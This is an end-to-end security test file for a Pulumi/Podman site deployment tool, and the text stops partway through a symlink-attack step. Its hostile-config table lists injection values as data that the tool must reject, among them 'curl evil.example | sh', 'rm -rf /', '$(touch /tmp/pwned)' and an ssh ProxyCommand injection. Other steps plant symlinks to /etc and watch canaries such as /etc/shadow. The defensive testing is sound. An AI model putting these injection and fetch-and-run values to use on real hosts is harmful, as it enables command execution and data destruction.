// The README's "Proven: robustness and security" table, end to end on one VM and one main stack; step names carry its row numbers:
//   3. hostile config (>= 25 values) rejected at preview, naming the key, with no SSH session on the host;
//   9. ownership: existing directories and a user we did not create refuse `up` (data intact, nothing created);
//   4. host identity: unreachable host, wrong SSH key, wrong pinned host key, no Podman, Podman < 4.4;
//   2. first provisioning interrupted (SIGINT, then SIGKILL) during the image build, recovered, converged;
//      then the site's own checks on it (site.ts: redirect, host state, no-op up, an app change under load,
//      the container's supervision and hardening), whose changed app the rows below serve;
//  12a. log subdirectories swapped for symlinks to /etc from inside the container: a dataPath change's up refused, naming them;
//  12b. a root-owned leftover <hash>.partial in releases/ (an older version's install): the drift rows' unit deploys still pass;
//  11. drift: what an operator changed on the host, healed by `pulumi up --refresh` (and `refresh` + `up`), a crash
//      loop among them (stopped at the unit's start limit, connections refused);
//  12c. the build area planted (a FIFO at the old lock, symlinks at the context) before 11's image rebuild: nothing followed;
//   7. TLS scan with sslscan; 5. secrets grep; 6. least privilege (a reboot: the app group, realApps.ts);
//   2. SSH dropped while an up runs, the next up converges;
//  12d. a release install raced by the user swapping .partial directories for symlinks to /usr: nothing followed;
//  10. a broken app deploy under load (with new settings, a rotated app secret and a new image), then again with gunicorn's
//      error.log a symlink to the TLS key (never shown), then a restart and a reboot: the old version serves;
//  13. rollback: the previous app put back, up under load: a switch to its kept release and image (nothing sent);
//  14. disk full: an app change refused before anything is uploaded, naming the filesystem and the space;
//   8. destroy after all that leaves nothing behind, except an operator's file it reports (and keeps), and follows
//      none of the user's symlinks planted in the home, installPath, logPath and dataPath.
// Every 12 row (and 8, 10, 11's image rebuild) compares root's canaries (system paths, a secret, root-owned
// symlink targets) before and after: a root command that followed a planted link would change them.
// Ends with one results table (lines starting with `# `), copied into docs/proofs.md.
import { test } from "node:test";
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { execFileSync, spawn } from "node:child_process";
import { freePort, startHost, TestHost } from "../host/vm";
import { ConfigMap, ConfigValue, EngineEvent } from "@pulumi/pulumi/automation";
import { CHANGED_BODY, siteChecks } from "./site";
import { HostileCase, packRounds, problemsOf, withCases } from "./hostileConfig";
import type { RetainedVersion } from "../../lib/commands/deploy";
import { REPO, SiteStack, assertUninstalled, asUserPrefix, cliEnv, httpsGet, liveConfigDir, liveVersionHashes, log, pulumiCli, readTree, sh, siteStack, underLoad, waitFor } from "./harness";

const firstLine = (s: string, re: RegExp) => (s.split("\n").find((l) => re.test(l)) ?? "").trim().slice(0, 140);
/** `s` without the scripts a failed remote command quotes (the command plugin's error reads `running "<the
 * whole script, Go-quoted>"`): the script names every path it checks and holds its own messages' words, so a
 * check of what a command reported must not see it. */
const withoutScripts = (s: string) => s.replace(/running "(?:[^"\\\n]|\\.)*"/g, 'running "(script)"');
/** The first line of `s` (scripts left out) that names `file` and matches `re`. */
const lineNaming = (s: string, file: string, re: RegExp) => firstLine(withoutScripts(s).split("\n").filter((l) => l.includes(file)).join("\n"), re);

/** The site's appSecrets value: step 5 looks for it in clear, row 10 rotates it in a refused deploy. */
const ROBUST_TOKEN = "robust-token-5b1e9d7c2f04";

test("robustness: hostile config, host identity, interrupted provisioning, TLS scan, SSH drop, destroy", { timeout: 120 * 60 * 1000 }, async (t) => {
  const ports = { https: await freePort(), http: await freePort() };
  const host: TestHost = await startHost({ name: `robust-${process.pid}`, forwardPorts: [ports.https, ports.http] });
  t.after(() => host.stop());
  // Extra SANs, so the scan can check the certificate names what is configured (besides the defaults).
  const san = { dns: "robust.example.test", ip: "192.0.2.10" };
  // Two gunicorn workers, not the default five of a 2-vCPU host: this group starts the container about 25
  // times (switches, kills, heals, refusals), and each start answers only once a worker has imported the app,
  // which five workers importing at once on two emulated CPUs delay. The default runs in the app and upgrade groups.
  const s: SiteStack = await siteStack(host, ports, {
    certDnsNames: { value: JSON.stringify([san.dns]) },
    certIpAddresses: { value: JSON.stringify([san.ip]) },
    workers: { value: "2" },
    appSecrets: { value: JSON.stringify({ ROBUST_TOKEN: ROBUST_TOKEN }), secret: true },
  });
  const user = "flagun";
  const url = `https://127.0.0.1:${ports.https}/`;
  const out: Record<string, any> = {};
  const results: [string, string, boolean][] = [];
  /** Everything `up`/`preview` printed in this run, grepped for secrets in step 5. */
  let printed = "";

  /** A subtest whose body returns its figure; pass/fail and the figure go into the results table. */
  const step = (name: string, fn: () => Promise<string>) =>
    t.test(name, async () => {
      try {
        const figure = await fn();
        results.push([name, figure, true]);
      } catch (e) {
        results.push([name, String((e as Error).message).split("\n")[0].slice(0, 160), false]);
        throw e;
      }
    });
  const sessions = async () =>
    Number((await sh(host, "sudo journalctl -u ssh --no-pager -o cat | grep -c 'Accepted publickey for deploy' || true", { newLogin: true })).trim());
  /**
   * What a root command that followed one of the user's symlinks would change: owner, mode, size and mtime of
   * system directories, a secret and root-owned targets the attack rows point links at (created in 12a), and
   * the contents of the files. Compared before and after each attack row.
   */
  const canaries = () =>
    sh(host, `sudo sh -c 'stat -c "%n %u:%g %a %s %Y" /etc /etc/shadow /usr /usr/bin /srv/canary-dir /srv/canary-dir/file /var/canary; sha256sum /etc/shadow /var/canary /srv/canary-dir/file'`);
  const sameCanaries = async (before: string, when: string) => assert.equal(await canaries(), before, `root changed a canary ${when}`);
  /** Every attack row ends on the normal site, serving the app as the site's checks left it. */
  const servesApp = async () => {
    const res = await httpsGet(url, out.certificatePem.value);
    assert.equal(res.status, 200);
    assert.equal(res.body, CHANGED_BODY);
  };
  const releases = `/opt/${user}/site/releases`;
  /** Root's leftover of an interrupted install by an older version (planted in 12b, removed by a later install). */
  const leftover = `${releases}/0123456789ab.partial`;

  try {
    // ---------------------------------------------------------------------------------------------
    await step("3 hostile config rejected at preview, key named, no SSH session", async () => {
      const hostsOk = [{ name: "vm", address: "127.0.0.1", port: host.sshPort, user: host.user, hostKey: host.hostKey }];
      const hostsWith = (patch: Record<string, unknown>) => JSON.stringify([{ ...hostsOk[0], ...patch }]);
      // Provided TLS material (test/fixtures/tls): the case sets the certificate, `provided` sets the rest.
      const tlsFile = (f: string) => fs.readFileSync(path.join(REPO, "test/fixtures/tls", f), "utf8");
      const provided = (key: string): ConfigMap => ({ tlsMode: { value: "provided" }, tlsPrivateKeyPem: { value: tlsFile(key), secret: true } });
      // [key set, value, key the message must name (default: the key set), other keys set for the case]
      // One value per kind of attack or mistake (each kind's full list is in test/unit, which runs the same
      // validation in milliseconds), and every ownership refusal; packed into as few previews as keep each
      // value's own refusal whole (hostileConfig.ts).
      const tuples: [string, string, string?, ConfigMap?][] = [
        ["systemUser", "flagun;touch /tmp/pwned"],
        ["systemUser", "$(touch /tmp/pwned)"],
        ["serviceName", "web\nExecStart=/bin/sh -c 'touch /tmp/pwned'"],
        ["homeDir", "/opt/flagun/../../etc"],
        ["installPath", "/srv/site'; rm -rf / #"],
        ["logPath", "/var/log"],
        ["httpsPort", "443; reboot"],
        ["trustedProxies", "-1"],
        ["initCommand", "flask init-db && curl evil.example | sh"],
        ["httpPort", String(ports.https)],
        ["certCommonName", "host\nevil"],
        ["certDnsNames", '["ok.example", "bad name;rm -rf /"]', "certDnsNames[1]"],
        ["clientMaxBodySize", "10m; include /etc/shadow"],
        ["appModule", "main:app; import os"],
        ["baseImage", "python:3 && curl evil.example"],
        ["sytemUser", "flagun", "sytemUser"],
        ["hosts", hostsWith({ address: "127.0.0.1 -oProxyCommand=touch /tmp/pwned" }), "hosts[0].address"],
        ["hosts", hostsWith({ hostKey: "ssh-ed25519 AAAA$(id)" }), "hosts[0].hostKey"],
        ["systemUser", "root"],
        ["systemUser", host.user],
        ["systemUser", "www-data"],
        ["homeDir", `/home/${host.user}`],
        ["installPath", `/home/${host.user}/site`],
        ["logPath", "/root/logs"],
        // Below a system directory, not only the directory itself: root would create the site's directory
        // there and hand it to the site's user (an sshd drop-in directory, a tmpfs, the admin's local tree).
        ["homeDir", "/etc/systemd/system/ssh.service.d"],
        ["logPath", "/run/flagun-logs"],
        ["dataPath", "/usr/local/flagun"],
        ["hosts", JSON.stringify([hostsOk[0], { ...hostsOk[0], name: "vm-again" }]), "hosts"],
        ["tlsCertificatePem", "not a certificate", undefined, provided("valid-key.pem")],
        ["tlsCertificatePem", tlsFile("valid-cert.pem"), "tlsPrivateKeyPem", provided("other-key.pem")],
        ["tlsCertificatePem", tlsFile("expired-cert.pem"), undefined, provided("expired-key.pem")],
      ];
      const cases: HostileCase[] = tuples.map(([key, value, named, others]) => ({ key, value, named, others }));
      assert.ok(cases.length >= 25);
      const project = "flagun-rosupod:";
      const base: ConfigMap = Object.fromEntries(Object.entries(await s.stack.getAllConfig()).map(([k, v]) => [k.startsWith(project) ? k.slice(project.length) : k, v]));
      const rounds = packRounds(base, cases, (config) => problemsOf(config, s.workDir));
      const before = await sessions();
      const times: number[] = [];
      for (const round of rounds) {
        const config = withCases(base, round.cases);
        const changed = Object.keys(config).filter((k) => config[k] !== base[k]);
        await s.stack.setAllConfig(Object.fromEntries(changed.map((k) => [k, config[k]])));
        const t0 = Date.now();
        const what = round.cases.map((c) => `${c.key}=${JSON.stringify(c.value)}`).join(", ");
        let msg = "";
        await assert.rejects(s.stack.preview(), (e: Error) => ((msg = e.message), true), `${what} must fail`);
        times.push((Date.now() - t0) / 1000);
        const missing = round.expect.filter((l) => !msg.includes(l));
        assert.deepEqual(missing, [], `the preview of ${what} must show each value's refusal: ${msg.slice(-3000)}`);
        const added = changed.filter((k) => !(k in base));
        if (added.length) await s.stack.removeAllConfig(added);
        const reset = changed.filter((k) => k in base);
        if (reset.length) await s.stack.setAllConfig(Object.fromEntries(reset.map((k) => [k, base[k]])));
      }
      await new Promise((r) => setTimeout(r, 2000)); // let the journal catch up with the last preview
      const after = await sessions();
      // The only new session allowed is the one that counts them (its log line may not be in the journal yet).
      assert.ok(after - before <= 1, `a rejected preview connected to the host (${before} -> ${after})`);
      assert.equal((await host.run("test -e /tmp/pwned")).code, 1);
      const avg = times.reduce((a, b) => a + b, 0) / times.length;
      return `${cases.length} values rejected in ${rounds.length} previews (${rounds.map((r) => r.cases.length).join("+")} values, each preview showing each of its values' own refusal), preview avg ${avg.toFixed(1)} s (max ${Math.max(...times).toFixed(1)} s); sshd sessions ${before} -> ${after} (+1 = the counting one)`;
    });

    // Before the host-identity cases: sshd penalises the source address after 4b's failed logins.
    await step("9 existing directory under each path key and a user not ours: up refused naming each, data intact, nothing created", async () => {
      // What a new user could point the site at: somebody's directories holding data, an existing account.
      const dirs: Record<string, string> = { homeDir: "/srv/precious-home", installPath: "/srv/precious-site", logPath: "/var/log/precious-logs" };
      const paths = Object.values(dirs).join(" ");
      await sh(host, `sudo useradd --system --no-create-home precious && for d in ${paths}; do sudo mkdir -p $d && echo "data of $d" | sudo tee $d/db.sqlite >/dev/null; done`);
      const snapshot = () => sh(host, `sudo sh -c 'cat /etc/passwd /etc/group /etc/subuid /etc/subgid; find /srv /opt /var/log -maxdepth 1 | sort; for d in ${paths}; do find $d | sort; sha256sum $d/db.sqlite; done; test ! -e /var/tmp/flagun-rosupod'`);
      const before = await snapshot();
      let msg = "";
      try {
        const other = { https: await freePort(), http: await freePort() };
        const config: ConfigMap = { systemUser: { value: "precious" }, serviceName: { value: "flagun-web9" } };
        for (const [k, v] of Object.entries(dirs)) config[k] = { value: v };
        const p = await siteStack(host, other, config, "precious");
        await assert.rejects(p.stack.up(), (e: Error) => ((msg = e.message), /ownership: nothing was changed/.test(e.message)));
        for (const [k, v] of Object.entries(dirs)) assert.ok(msg.includes(`${k}: ${v} already exists (owner root:root, 1 entries inside) and was not created by this site`), `${k} not named: ${msg}`);
        assert.match(msg, /systemUser: user precious already exists \(uid \d+, comment ""\) and was not created by this site/);
        assert.equal(await snapshot(), before, "the host changed: users, id ranges, directories or the data in them");
      } finally {
        await sh(host, `sudo userdel precious; sudo rm -rf ${paths}`); // this test's own fixtures
      }
      return `refused, naming ${Object.keys(dirs).join(", ")} and systemUser (owner root:root, 1 entry each); passwd, group, subuid, subgid, top-level dirs and the 3 db.sqlite hashes unchanged`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("4a unreachable host (closed 127.0.0.1 port)", async () => {
      const closed = await freePort();
      const hosts = JSON.stringify([{ name: "vm", address: "127.0.0.1", port: closed, user: host.user, hostKey: host.hostKey }]);
      const u = await siteStack(host, ports, { hosts: { value: hosts } }, "unreachable");
      const t0 = Date.now();
      let msg = "";
      // Transient: retried by the connection check, then one line naming the cause and the attempts.
      await assert.rejects(u.stack.up(), (e: Error) => ((msg = e.message), /ssh deploy@127\.0\.0\.1:\d+: .*Connection refused \(after \d+ attempts/.test(e.message)));
      return `failed after ${((Date.now() - t0) / 1000).toFixed(1)} s: ${firstLine(msg, /refused \(after/).replace(/^.*?(ssh deploy@)/, "$1")}`;
    });

    /** sshd's journal, counted in one query (one login): failed logins, penalties (OpenSSH >= 9.8
     * PerSourcePenalties), and accepted logins of deploy (this query's own may or may not be in it yet). */
    const sshdCounts = async () => {
      const [failed, penalty, logins] = (await sh(host, "sudo journalctl -u ssh --no-pager -o cat | awk '/Failed publickey/{f++} /penalty/{p++} /Accepted publickey for deploy/{a++} END{print f+0, p+0, a+0}'", { newLogin: true })).trim().split(" ").map(Number);
      return { failed, penalty, logins };
    };
    /** Runs a failing `up`: one line naming the cause, at most one failed login and no login on the server, no
     * penalty, and SSH from this machine works right after. */
    const oneFailureOnly = async (stack: SiteStack, expect: RegExp) => {
      const before = await sshdCounts();
      const t0 = Date.now();
      let msg = "";
      await assert.rejects(stack.stack.up(), (e: Error) => ((msg = e.message), expect.test(e.message)));
      const took = (Date.now() - t0) / 1000;
      await new Promise((r) => setTimeout(r, 1000)); // let the journal catch up
      const after = await sshdCounts();
      // The up's logins: the difference minus `before`'s own query (after's may not be logged yet).
      const logins = after.logins - before.logins - 1;
      assert.ok(logins <= 0, `the failed up logged in ${logins} time(s)`);
      assert.ok(after.failed - before.failed <= 1, `more than one failed login: ${before.failed} -> ${after.failed}`);
      assert.equal(after.penalty, before.penalty, "sshd penalised this machine's address");
      const t1 = Date.now();
      assert.equal((await host.run("true")).code, 0, "SSH from this machine fails right after the failed up");
      const sshAfter = (Date.now() - t1) / 1000;
      assert.equal((await host.run("getent passwd flagun")).code, 2, "no user created");
      return `${firstLine(msg, expect).replace(/^.*?(ssh deploy@)/, "$1")}; failed ${took.toFixed(1)} s after the up started; sshd: logins 0, failed logins +${after.failed - before.failed}, penalties +${after.penalty - before.penalty}; next SSH ok in ${sshAfter.toFixed(1)} s`;
    };

    await step("4b wrong SSH key (fresh ed25519)", async () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "flagun-wrongkey-"));
      execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "wrong", "-f", path.join(dir, "id")]);
      const w = await siteStack(host, ports, { sshPrivateKey: { value: fs.readFileSync(path.join(dir, "id"), "utf8"), secret: true } }, "wrongkey");
      return oneFailureOnly(w, /ssh deploy@127\.0\.0\.1:\d+: unable to authenticate as deploy: publickey refused/);
    });

    await step("4c wrong pinned host key (another valid ed25519 key)", async () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "flagun-wronghostkey-"));
      execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "", "-f", path.join(dir, "k")]);
      const other = fs.readFileSync(path.join(dir, "k.pub"), "utf8").trim().split(" ").slice(0, 2).join(" ");
      const hosts = JSON.stringify([{ name: "vm", address: "127.0.0.1", port: host.sshPort, user: host.user, hostKey: other }]);
      const w = await siteStack(host, ports, { hosts: { value: hosts } }, "wronghostkey");
      // The host key is checked before authentication: no login, not even a failed one.
      return oneFailureOnly(w, /ssh deploy@127\.0\.0\.1:\d+: host key mismatch: pinned SHA256:\S+, got SHA256:\S+/);
    });

    await step("4d host without podman: preflight error, nothing created", async () => {
      const subBefore = await sh(host, "cat /etc/subuid /etc/subgid; getent passwd | wc -l");
      await sh(host, "sudo mv /usr/bin/podman /usr/bin/podman.off");
      let msg = "";
      try {
        const other = { https: await freePort(), http: await freePort() };
        const p = await siteStack(host, other, { systemUser: { value: "flagun2" }, serviceName: { value: "flagun-web2" } }, "nopodman");
        await assert.rejects(p.stack.up(), (e: Error) => ((msg = e.message), /podman[^\n]*not found/.test(e.message)));
      } finally {
        await sh(host, "sudo mv /usr/bin/podman.off /usr/bin/podman");
      }
      assert.equal((await host.run("getent passwd flagun2")).code, 2, "user flagun2 was created");
      assert.equal((await host.run("test -e /opt/flagun2 || test -e /var/lib/flagun-rosupod || test -e /var/log/flagun-web2")).code, 1, "something was created");
      assert.equal(await sh(host, "cat /etc/subuid /etc/subgid; getent passwd | wc -l"), subBefore, "subuid/subgid/passwd changed");
      await sh(host, "podman --version");
      return firstLine(msg, /podman[^\n]*not found/);
    });

    await step("4e host with podman < 4.4: preflight error, nothing created", async () => {
      // Debian 13 ships podman 5; an older one is simulated by a `podman` earlier on PATH (/usr/local/bin
      // comes before /usr/bin for SSH sessions and sudo alike) that reports 4.3.1 and runs the real one.
      const before = await sh(host, "cat /etc/subuid /etc/subgid; getent passwd | wc -l");
      const shim = "#!/bin/sh\\n[ \"$1\" = --version ] && { echo \"podman version 4.3.1\"; exit 0; }\\nexec /usr/bin/podman \"$@\"\\n";
      await sh(host, `printf '${shim}' | sudo tee /usr/local/bin/podman >/dev/null && sudo chmod 0755 /usr/local/bin/podman`);
      let msg = "";
      try {
        assert.match(await sh(host, "podman --version"), /4\.3\.1/);
        const other = { https: await freePort(), http: await freePort() };
        const p = await siteStack(host, other, { systemUser: { value: "flagun3" }, serviceName: { value: "flagun-web3" } }, "oldpodman");
        await assert.rejects(p.stack.up(), (e: Error) => ((msg = e.message), /podman 4\.3\.1 is too old: need >= 4\.4/.test(e.message)));
      } finally {
        await sh(host, "sudo rm -f /usr/local/bin/podman");
      }
      assert.equal((await host.run("getent passwd flagun3")).code, 2, "user flagun3 was created");
      assert.equal((await host.run("test -e /opt/flagun3 || test -e /var/lib/flagun-rosupod || test -e /var/log/flagun-web3")).code, 1, "something was created");
      assert.equal(await sh(host, "cat /etc/subuid /etc/subgid; getent passwd | wc -l"), before, "subuid/subgid/passwd changed");
      return firstLine(msg, /too old/);
    });

    await step("4f staging directory pre-created by another user: refused, nothing created", async () => {
      // A local user (a system one: it gets no subordinate ids) created the staging directory first.
      await sh(host, "id mallory >/dev/null 2>&1 || sudo useradd --system --no-create-home mallory; sudo install -d -o mallory -g mallory -m 0755 /var/lib/flagun-rosupod");
      const before = await sh(host, "cat /etc/subuid /etc/subgid; getent passwd | wc -l");
      let msg = "";
      try {
        const other = { https: await freePort(), http: await freePort() };
        const p = await siteStack(host, other, { systemUser: { value: "flagun4" }, serviceName: { value: "flagun-web4" } }, "stagingowner");
        await assert.rejects(p.stack.up(), (e: Error) => ((msg = e.message), /staging directory \/var\/lib\/flagun-rosupod is owned by mallory with mode 755/.test(e.message)));
        assert.equal((await host.run("getent passwd flagun4")).code, 2, "user flagun4 was created");
        assert.equal((await host.run("test -e /opt/flagun4 || test -e /var/lib/flagun-rosupod/flagun-web4 || test -e /var/log/flagun-web4")).code, 1, "something was created");
        assert.equal(await sh(host, "cat /etc/subuid /etc/subgid; getent passwd | wc -l"), before, "subuid/subgid/passwd changed");
        assert.equal((await sh(host, "stat -c %U /var/lib/flagun-rosupod")).trim(), "mallory", "the directory was adopted");
      } finally {
        await sh(host, "sudo rmdir /var/lib/flagun-rosupod; sudo userdel mallory");
      }
      return firstLine(msg, /staging directory/);
    });

    // ---------------------------------------------------------------------------------------------
    const env = cliEnv(s);
    let recoveryNotes = "";
    await step("2a first up interrupted during the image build (SIGINT, then SIGKILL)", async () => {
      log("pulumi up (CLI, to be interrupted)");
      const child = spawn("pulumi", ["up", "--yes", "--non-interactive", "--skip-preview", "--stack", "e2e"], { cwd: s.workDir, env, detached: true });
      let text = "";
      const logFile = path.join(os.tmpdir(), `robust-interrupted-up-${process.pid}.log`);
      const onData = (d: Buffer) => {
        text += d.toString();
        printed += d.toString();
        fs.appendFileSync(logFile, d);
      };
      child.stdout.on("data", onData);
      child.stderr.on("data", onData);
      const exited = new Promise<string>((r) => child.on("exit", (code, sig) => r(`code=${code} signal=${sig}`)));
      const t0 = Date.now();
      try {
        // The build command, not the PodmanImage component of the same name (registered at the start).
        await waitFor("`command:remote:Command vm-image creating` in the pulumi up output", 20 * 60, async () => {
          if (child.exitCode !== null) throw new Error(`pulumi up exited early: ${text.slice(-2000)}`);
          return /command:remote:Command vm-image creating/.test(text);
        });
        const tBuild = (Date.now() - t0) / 1000;
        log(`image build started after ${tBuild.toFixed(0)} s: SIGINT`);
        await new Promise((r) => setTimeout(r, 3000));
        child.kill("SIGINT");
        const afterInt = text.length;
        await new Promise((r) => setTimeout(r, 5000));
        const intOut = text.slice(afterInt);
        const exitedOnSigint = child.exitCode !== null || child.signalCode !== null;
        assert.ok(!exitedOnSigint, `pulumi up stopped within 5 s of SIGINT, the build was not interrupted: ${intOut.slice(-1500)}`);
        process.kill(-child.pid!, "SIGKILL"); // our child's process group: the CLI, its language host and plugins
        const how = await exited;
        // The plugins (language host, providers) put themselves in process groups of their own, so killing
        // the CLI's group misses them; they stay in its session (detached: the CLI leads a new session).
        // Observed: they outlive the killed CLI (ppid 1). Recorded as a figure, then ended by pid.
        let survivors: string[] = [];
        try {
          survivors = execFileSync("pgrep", ["-s", String(child.pid)], { encoding: "utf8" }).trim().split("\n").filter(Boolean);
        } catch {
          survivors = []; // pgrep exits 1: none left
        }
        for (const pid of survivors) {
          try {
            process.kill(Number(pid), "SIGKILL");
          } catch {
            /* gone meanwhile */
          }
        }
        const builds = (await sh(host, "ps -eo args | grep -c '^[p]odman build' || true")).trim();
        log(`after SIGKILL (${how}); podman build processes still on the host: ${builds}; output after SIGINT: ${intOut.replace(/\s+/g, " ").slice(0, 300)}`);
        return `SIGINT ${tBuild.toFixed(0)} s into up, SIGKILL 5 s later (${how}); plugin processes that outlived the CLI (killed by pid): ${survivors.length}; orphan 'podman build' still running on host: ${builds}`;
      } finally {
        try {
          process.kill(-child.pid!, "SIGKILL");
        } catch {
          /* already gone */
        }
      }
    });

    await step("2b recovery: cancel, clear pending creates", async () => {
      // What the file backend needs after a killed `pulumi up`:
      //  - the stack lock the killed CLI held (.pulumi/locks/...) must go: `pulumi cancel` does that for the
      //    file backend (if it does not, we remove the lock file and say so in the figure);
      //  - the state holds a pending create for the resource whose command was running (vm-image and maybe
      //    uploads): `pulumi refresh --clear-pending-creates` drops them, so the next up creates them again
      //    (the build command starts with `rm -rf` of its context and `podman build -t` is idempotent).
      const locks = () => {
        const d = path.join(s.stateDir, ".pulumi", "locks");
        return fs.existsSync(d) ? fs.readdirSync(d, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name)) : [];
      };
      const locksBefore = locks().length;
      const cancel = await pulumiCli(s, ["cancel", "--yes", "--stack", "e2e", "--non-interactive"]);
      log(`pulumi cancel: exit ${cancel.code}: ${cancel.out.trim().replace(/\s+/g, " ").slice(0, 300)}`);
      let removed = 0;
      for (const l of locks()) {
        fs.rmSync(l);
        removed++;
      }
      const exp = await pulumiCli(s, ["stack", "export", "--stack", "e2e"]);
      assert.equal(exp.code, 0, exp.out);
      const pending = (JSON.parse(exp.out).deployment.pending_operations ?? []) as { type: string; resource: { urn: string } }[];
      log(`pending operations: ${pending.map((p) => `${p.type} ${p.resource.urn.split("::").pop()}`).join(", ") || "none"}`);
      const refresh = await pulumiCli(s, ["refresh", "--clear-pending-creates", "--yes", "--skip-preview", "--non-interactive", "--stack", "e2e"]);
      assert.equal(refresh.code, 0, refresh.out.slice(-3000));
      recoveryNotes = `locks ${locksBefore}, cancel exit ${cancel.code}, locks removed by hand ${removed}, pending ops ${pending.length} (${pending.map((p) => `${p.type} ${p.resource.urn.split("::").pop()}`).join(", ")}), refresh --clear-pending-creates exit ${refresh.code}`;
      assert.ok(pending.some((p) => p.resource.urn.endsWith("::vm-image")), "the interrupted build is a pending create");
      return recoveryNotes;
    });

    await step("2c re-run up converges: Hello, World!, one subuid/subgid line, one container, expected images", async () => {
      log("pulumi up (resume)");
      const t0 = Date.now();
      const up = await s.stack.up({ suppressProgress: true, onOutput: (o) => ((printed += o), process.stdout.write(o.replace(/^/gm, "#   "))) });
      const upS = (Date.now() - t0) / 1000;
      Object.assign(out, up.outputs);
      const vm = out.hosts.value.vm;
      const res = await httpsGet(url, out.certificatePem.value, "localhost");
      assert.equal(res.status, 200);
      assert.equal(res.body, "Hello, World!");
      const counts: string[] = [];
      for (const f of ["/etc/subuid", "/etc/subgid"]) {
        const n = Number((await sh(host, `grep -c '^${user}:' ${f} || true`)).trim());
        counts.push(`${path.basename(f)}=${n}`);
        assert.equal(n, 1, `${f} lines for ${user}`);
      }
      const u = asUserPrefix(user, vm.uid);
      const containers = (await sh(host, `${u} podman ps -a --format '{{.Names}} {{.Status}}'`)).trim().split("\n").filter(Boolean);
      assert.equal(containers.length, 1, containers.join("; "));
      assert.match(containers[0], /^flagun-web Up/);
      const builds = (await sh(host, "ps -eo args | grep -c '^[p]odman build' || true")).trim();
      assert.equal(builds, "0", "a podman build is still running");
      const noop = await s.stack.preview({ onOutput: (o) => (printed += o) });
      const changes = Object.entries(noop.changeSummary ?? {}).filter(([k]) => k !== "same");
      assert.deepEqual(changes, [], JSON.stringify(noop.changeSummary));
      // Last, so every other check above has run: the images are exactly the base and the service image.
      const images = (await sh(host, `${u} podman images --format '{{.Repository}}:{{.Tag}} {{.ID}} {{.Size}}'`)).trim().split("\n").filter(Boolean).sort();
      log(`images: ${images.join(", ")}`);
      const refs = images.map((i) => i.split(" ")[0]);
      // What the resumed build command said: built, or reused the image the orphaned build finished.
      const deployment = (await s.stack.exportStack()).deployment as { resources: { urn: string; outputs?: { stdout?: unknown } }[] };
      const stdout = deployment.resources.find((r) => r.urn.endsWith("command:remote:Command::vm-image"))?.outputs?.stdout;
      const build = typeof stdout === "string" ? stdout.trim().split("\n").pop() : JSON.stringify(stdout)?.slice(0, 80);
      const figure = `resumed up ${upS.toFixed(0)} s; build step: "${build}"; 200 "${res.body}"; ${counts.join(" ")}; containers: ${containers.length}; no build running; preview after: no changes; images: ${images.join(", ")}`;
      assert.ok(refs.includes(vm.imageRef), `${vm.imageRef} missing: ${figure}`);
      assert.ok(refs.some((i) => /^localhost\/flagun-base:[0-9a-f]+$/.test(i)), `base image missing: ${figure}`);
      assert.equal(refs.length, 2, `unexpected images (a dangling <none> is the killed run's orphaned build finishing on the host): ${figure}`);
      return figure;
    });

    // ---------------------------------------------------------------------------------------------
    // The site's own checks (test/e2e/site.ts) on this host as provisioning left it (they end serving their
    // changed app, CHANGED_BODY, as the rows below expect).
    await siteChecks(t, { host, s, out, ports, user });

    // ---------------------------------------------------------------------------------------------
    // 12: what the app (its container, or its user) can plant where root used to act: symlinks to system
    // directories, FIFOs, races. Each row runs the `up` or `destroy` the plant targets.
    await step("12a log subdirectories swapped for symlinks to /etc from inside the container: a dataPath change's up refused naming them, nothing created", async () => {
      // Root's own files for every 12 row to compare: a file, and a directory with a file (link targets).
      await sh(host, "sudo sh -c 'echo canary > /var/canary && chown root:root /var/canary && chmod 0644 /var/canary && install -d -o root -g root -m 0755 /srv/canary-dir && echo canary > /srv/canary-dir/file && chown root:root /srv/canary-dir/file && chmod 0644 /srv/canary-dir/file'");
      const before = await canaries();
      const u = asUserPrefix(user, out.hosts.value.vm.uid);
      const moved = "/var/lib/flagun-web-moved";
      let orig: string | undefined;
      try {
        orig = (await s.stack.getConfig("dataPath")).value;
      } catch {
        orig = undefined; // the default
      }
      // The container writes /var/log/flagun (logPath on the host); the running nginx and gunicorn keep their
      // open files, so the site serves on while the links stand where the directories step looks.
      await sh(host, `${u} podman exec flagun-web sh -c 'cd /var/log/flagun && mv nginx nginx.real && ln -s /etc nginx && mv gunicorn gunicorn.real && ln -s /etc gunicorn'`);
      let msg = "";
      let upS = 0;
      try {
        await s.stack.setConfig("dataPath", { value: moved });
        log("pulumi up (dataPath changed) with logPath's subdirectories symlinks to /etc");
        const t0 = Date.now();
        await assert.rejects(s.stack.up({ onOutput: (o) => (printed += o) }), (e: Error) => ((msg = e.message), true));
        upS = (Date.now() - t0) / 1000;
      } finally {
        if (orig === undefined) await s.stack.removeConfig("dataPath");
        else await s.stack.setConfig("dataPath", { value: orig });
        await sh(host, `${u} sh -c 'cd /var/log/flagun-web && for d in nginx gunicorn; do if [ -L $d ]; then rm $d && mv $d.real $d; fi; done'`);
      }
      const refusal = lineNaming(msg, "/var/log/flagun-web/nginx", /symlink|not a directory/) || lineNaming(msg, "/var/log/flagun-web/gunicorn", /symlink|not a directory/);
      assert.ok(refusal, `the up must fail naming /var/log/flagun-web/nginx or .../gunicorn as a symlink: ${withoutScripts(msg).slice(-3000)}`);
      assert.equal((await host.run(`sudo test -e ${moved} || sudo test -L ${moved}`)).code, 1, `${moved} was created`);
      await sameCanaries(before, "(12a up)");
      assert.equal((await sh(host, "sudo stat -c %F /var/log/flagun-web/nginx /var/log/flagun-web/gunicorn")).trim(), "directory\ndirectory");
      // The failed up may have recorded only what changes nothing on the host (the connection check, the
      // ownership preflight, the host-state record) and the directories step it failed in (idempotent): the
      // restoring up says which.
      const changed = new Set<string>();
      await s.stack.up({
        onOutput: (o) => (printed += o),
        onEvent: (e: EngineEvent) => {
          const m = e.resOutputsEvent?.metadata;
          if (m && m.op !== "same" && m.type !== "pulumi:pulumi:Stack" && !m.type.startsWith("pulumi:providers:")) changed.add(m.urn.split("::").pop()!);
        },
      });
      // The read-only checks that ran before the refusal (they name dataPath), and the refused step itself.
